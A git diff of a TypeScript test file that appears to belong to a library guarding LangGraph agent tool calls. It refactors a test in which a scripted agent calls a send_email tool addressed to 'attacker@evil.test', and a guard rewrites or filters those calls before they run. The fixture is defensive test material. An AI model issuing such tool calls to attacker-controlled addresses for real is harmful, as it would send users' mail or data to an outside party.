@@ -6,9 +6,9 @@ import { createReactAgent } from "@langchain/langgraph/prebuilt";
 import { describe, expect, it } from "vitest";
 import { z } from "zod";
 import { ScriptedChatModel } from "../examples/scripted-model.js";
-import { SafeToolNode, safeToolsCondition, safeToolsFanOut, validateToolResults } from "../src/index.js";
+import { SafeToolNode, safeToolsFanOut, validateToolResults } from "../src/index.js";
 import { safeToolMiddleware } from "../src/middleware.js";
-import { ownSendRouter, runScript, WIRINGS } from "./helpers/agent-graphs.js";
+import { ownSendRouter, runScript, runWithInPlaceEdit, WIRINGS } from "./helpers/agent-graphs.js";
 import { aiWith, anthropicStyleAI, call, historyWith, invalidCall, openAIStyleAI, responsesStyleAI, weather } from "./helpers/fixtures.js";
 import { applyOutput, expectValidAfter, expectValidHistory } from "./helpers/invariant.js";
 
@@ -196,21 +196,10 @@ describe("what other code does to the turn between the router and the node", () 
     for (const edit of ["rewrite", "filter"] as const) {
       const ran: string[] = [];
       const send = tool(async ({ to }) => (ran.push(to), `sent to ${to}`), { name: "send_email", description: "s", schema: z.object({ to: z.string() }) });
-      let turn = 0;
-      const graph = new StateGraph(MessagesAnnotation)
-        .addNode("agent", () => ({ messages: [turn++ ? new AIMessage({ id: "fin", content: "done" }) : aiWith([call("send_email", { to: "attacker@evil.test" }, "c1"), call("send_email", { to: "x@evil.test" }, "c2")])] }))
-        .addNode("guard", (state) => {
-          const ai = state.messages.at(-1) as AIMessage;
-          ai.tool_calls = edit === "rewrite" ? ai.tool_calls!.map((c) => ({ ...c, args: { to: "boss@corp.test" } })) : ai.tool_calls!.slice(0, 1);
-          return { messages: [ai] };
-        })
-        .addNode("tools", new SafeToolNode([send]))
-        .addEdge(START, "agent")
-        .addConditionalEdges("agent", safeToolsCondition, { tools: "guard", [END]: END })
-        .addEdge("guard", "tools")
-        .addEdge("tools", "agent")
-        .compile();
-      const { messages } = await graph.invoke({ messages: [new HumanMessage({ content: "go", id: "h" })] });
+      const turn = aiWith([call("send_email", { to: "attacker@evil.test" }, "c1"), call("send_email", { to: "x@evil.test" }, "c2")]);
+      const messages = await runWithInPlaceEdit(turn, new SafeToolNode([send]), (ai) => {
+        ai.tool_calls = edit === "rewrite" ? ai.tool_calls!.map((c) => ({ ...c, args: { to: "boss@corp.test" } })) : ai.tool_calls!.slice(0, 1);
+      });
       await expectValidHistory(messages);
       expect(ran).toEqual(edit === "rewrite" ? ["boss@corp.test", "boss@corp.test"] : ["attacker@evil.test"]);
     }
